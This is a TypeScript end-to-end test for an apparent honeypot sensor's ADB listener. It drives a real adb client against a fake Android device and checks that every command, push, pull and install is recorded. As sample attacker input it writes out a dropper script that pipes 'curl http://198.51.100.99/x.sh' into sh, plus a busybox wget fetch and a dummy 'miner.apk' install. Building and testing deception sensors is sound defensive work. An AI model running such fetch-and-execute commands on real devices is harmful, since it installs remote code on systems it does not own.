import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it, type TestContext } from 'node:test';
import { eventually, freePort, requireTool, startSensorProcess } from '../../helpers/sensor-process.ts';
import { startServe } from '../../helpers/serve-process.ts';
import { openStream } from '../../helpers/stream-client.ts';
import { ensureRealDataset } from '../../helpers/test-dataset.ts';

const TOKEN = 'sensor-adb-operator-token-0123456789';

/**
 * Runs the command in argv in a new pty, as a person at a terminal would: waits for the prompt, types
 * each line of the JSON list on stdin (a key at a time) and Enter, then reads until the command exits.
 * Prints {"output": what the terminal showed, "status": the exit status}.
 */
const PTY_DRIVER = `
import json, os, pty, select, sys, time
lines = json.load(sys.stdin)
pid, fd = pty.fork()
if pid == 0:
    os.execv(sys.argv[1], sys.argv[1:])
out = b''
deadline = time.time() + 20
def read_until(done):
    global out
    while not done() and time.time() < deadline:
        r, _, _ = select.select([fd], [], [], 0.1)
        if r:
            try:
                data = os.read(fd, 65536)
            except OSError:
                return
            if not data:
                return
            out += data
for line in lines:
    read_until(lambda: out.endswith(b'$ '))
    for ch in line:
        os.write(fd, ch.encode())
    os.write(fd, b'\\r')
read_until(lambda: False)
_, status = os.waitpid(pid, 0)
print(json.dumps({'output': out.decode('utf8', 'replace'), 'status': os.waitstatus_to_exitcode(status)}))
`;

function tempDir(t: TestContext, prefix: string): string {
  const dir = mkdtempSync(join(tmpdir(), prefix));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  return dir;
}

describe('umbra sensor: the ADB listener end to end', () => {
  it('should let the adb client connect, run commands, an interactive shell in a terminal, push, pull and install, each a honeypot_adb record', async (t) => {
    const adbPath = requireTool('adb');
    const python = process.env.UMBRA_PYTHON ?? requireTool('python3');
    const dataDir = tempDir(t, 'umbra-sensor-adb-srv-');
    symlinkSync(await ensureRealDataset(), join(dataDir, 'ip-dataset.bin'));
    const server = await startServe(t, dataDir, ['--demo'], { UMBRA_OPERATOR_TOKEN: TOKEN });
    const key = (await server.line(/demo API key \(every scope\): (\S+)/))[1]!;
    const stream = await openStream(server.port, '/api/v4/feeds/helio/adb/stream', key);
    t.after(() => stream.close());

    const dir = tempDir(t, 'umbra-sensor-adb-');
    const sensor = await startSensorProcess(
      t,
      dir,
      {
        server: server.origin,
        identity: { proxy_ip: '198.51.100.55' },
        domains: ['decoy-adb.example'],
        listeners: [{ protocol: 'adb', bind: '127.0.0.1', port: 0, public_port: 5555 }],
        spool: { dir: join(dir, 'spool') },
        upload: { linger_ms: 20 },
        health: { port: 0 },
      },
      { UMBRA_OPERATOR_TOKEN: TOKEN },
    );
    const port = sensor.ports['adb-5555']!;

    // The adb client runs its own server daemon: a private one, on a port of its own, with its keys in
    // a temporary home, stopped when the test ends (never the machine's adb server on 5037).
    const home = join(dir, 'home');
    mkdirSync(home);
    const adbPort = String(await freePort());
    // TERM is fixed: the client passes it to the device in the shell service string, which is recorded.
    const env = { ...process.env, HOME: home, ANDROID_SDK_HOME: home, ADB_MDNS: '0', TERM: 'xterm-256color' };
    const adb = (...args: string[]) => adbIn(undefined, ...args);
    const adbIn = (input: string | undefined, ...args: string[]) => {
      const r = spawnSync(adbPath, ['-P', adbPort, ...args], { encoding: 'utf8', env, timeout: 20_000, input });
      return { code: r.status, out: `${r.stdout}${r.stderr}`, stdout: r.stdout };
    };
    t.after(() => void adb('kill-server'));
    const device = `127.0.0.1:${port}`;

    const connected = adb('connect', device);
    assert.match(connected.out, new RegExp(`connected to ${device}`), connected.out);
    const id = adb('-s', device, 'shell', 'id');
    assert.equal(id.code, 0, id.out);
    assert.match(id.stdout, /^uid=2000\(shell\) gid=2000\(shell\)/);
    const model = adb('-s', device, 'shell', 'getprop', 'ro.product.model');
    assert.equal(model.stdout.trim(), 'SM-G960F');
    const payload = Buffer.from(`#!/system/bin/sh\n# dropper ${Date.now()}\ncurl http://198.51.100.99/x.sh | sh\n`);
    const file = join(dir, 'x.sh');
    writeFileSync(file, payload);
    const pushed = adb('-s', device, 'push', file, '/data/local/tmp/');
    assert.equal(pushed.code, 0, pushed.out);
    assert.match(pushed.out, /1 file pushed/);

    // A shell with a script piped in: the client asks for shell_v2 without a pty, so no prompt and no
    // echo (as a real device), and `exit 3` is the client's exit status.
    const piped = adbIn('echo probe-42\nexit 3\n', '-s', device, 'shell');
    assert.equal(piped.code, 3, piped.out);
    assert.equal(piped.stdout, 'probe-42\n');
    // A command not found: on stderr, status 127.
    const missing = adb('-s', device, 'shell', 'busybox wget http://198.51.100.99/x');
    assert.deepEqual([missing.code, missing.stdout], [127, ''], missing.out);
    assert.match(missing.out, /\/system\/bin\/sh: busybox: not found/);

    // An interactive shell in a terminal: the client runs in a pty (python's pty module), asks the
    // device for a pty and sends keystrokes; the device echoes them, answers and prompts.
    const tty = spawnSync(python, ['-c', PTY_DRIVER, adbPath, '-P', adbPort, '-s', device, 'shell'], {
      encoding: 'utf8',
      env,
      timeout: 30_000,
      input: JSON.stringify(['id', 'getprop ro.product.model', 'ls /', 'echo hi', 'exit']),
    });
    assert.equal(tty.status, 0, tty.stderr);
    const session = JSON.parse(tty.stdout) as { output: string; status: number };
    assert.equal(session.status, 0, session.output);
    const screen = session.output;
    assert.ok(screen.startsWith('starlte:/ $ id\r\nuid=2000(shell) gid=2000(shell)'), screen);
    assert.match(screen, /starlte:\/ \$ getprop ro\.product\.model\r\nSM-G960F\r\n/);
    assert.match(screen, /starlte:\/ \$ ls \/\r\nacct\r\n[\s\S]*\r\nsystem\r\nvendor\r\n/);
    assert.ok(screen.endsWith('starlte:/ $ echo hi\r\nhi\r\nstarlte:/ $ exit\r\n'), screen);

    // adb pull of a file the fake device has, and of one it has not.
    const pulledTo = join(dir, 'build.prop');
    const pulled = adb('-s', device, 'pull', '/system/build.prop', pulledTo);
    assert.equal(pulled.code, 0, pulled.out);
    assert.match(readFileSync(pulledTo, 'utf8'), /^ro\.product\.model=SM-G960F$/m);
    // A path it has not: the client's stat fails and nothing is asked for (nor recorded).
    const absent = adb('-s', device, 'pull', '/data/system/users/0/settings_secure.xml', join(dir, 'x'));
    assert.match(absent.out, /failed to stat remote object.*No such file or directory/);
    // adb install: the client streams the APK to `cmd package install` (the device offers cmd).
    const apk = Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.alloc(100_000, 7)]);
    writeFileSync(join(dir, 'miner.apk'), apk);
    const installed = adb('-s', device, 'install', join(dir, 'miner.apk'));
    assert.equal(installed.code, 0, installed.out);
    assert.match(installed.out, /Success/);

    const expected = [
      'shell,v2,TERM=xterm-256color,raw:id',
      'shell,v2,TERM=xterm-256color,raw:getprop ro.product.model',
      payload.toString(),
      'echo probe-42',
      'exit 3',
      'shell,v2,TERM=xterm-256color,raw:busybox wget http://198.51.100.99/x',
      'id',
      'getprop ro.product.model',
      'ls /',
      'echo hi',
      'exit',
      'RECV /system/build.prop',
      `exec:cmd package 'install' -S ${apk.length}`,
      apk.toString('latin1'),
    ];
    const records = (await stream.records(expected.length, 20_000)) as Array<Record<string, any>>;
    const commands = records.map((r, i) => Buffer.from(r.command, 'base64').toString(i === expected.length - 1 ? 'latin1' : 'utf8'));
    assert.deepEqual(commands, expected);
    assert.deepEqual(
      records.map((r) => r.sequential_id),
      expected.map((_, i) => i + 1),
    );
    assert.equal(new Set(records.map((r) => r.session)).size, 1, 'one adb connection, one session');
    assert.equal(records[2]!.hash, createHash('sha256').update(payload).digest('hex'), 'the pushed file hashed');
    assert.equal(records.at(-1)!.hash, createHash('sha256').update(apk).digest('hex'), 'the installed APK hashed');
    assert.equal(records[0]!.source_ip, '127.0.0.1');
    // The sensor counts a batch once the server's answer is back, a moment after the stream has it.
    const h = await eventually(
      async () => {
        const v = await sensor.health();
        return v.upload.find((u: { feed: string }) => u.feed === 'honeypot_adb').uploaded === expected.length ? v : undefined;
      },
      10_000,
      'all uploaded',
    );
    assert.equal(h.listeners[0].records, expected.length);
  });
});
